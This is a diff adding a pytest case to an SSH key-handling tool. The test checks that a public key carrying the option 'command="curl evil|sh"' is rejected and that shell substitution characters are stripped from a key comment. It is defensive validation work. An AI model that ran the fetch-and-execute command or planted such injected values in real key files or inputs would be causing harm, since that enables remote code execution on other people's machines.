@@ -89,3 +89,10 @@ def test_known_hosts_block():
 def test_bad_arguments(op, args):
     with pytest.raises(ArgumentError):
         plan(op, args, {USER: ALICE, AUTH: None, FactKey("file", "/etc/ssh/ssh_known_hosts"): None})
+
+
+def test_keypair_result_from_a_hostile_node():
+    hostile = 'command="curl evil|sh" ' + K1
+    assert keypair_result({"user": "alice"}, {PUB: text_file(hostile)})["public_key"] is None
+    odd = K1.replace("alice@node1", "alice@node1 $(x) `y`")
+    assert keypair_result({"user": "alice"}, {PUB: text_file(odd)})["public_key"] == K1.replace("alice@node1", "alice@node1xy")
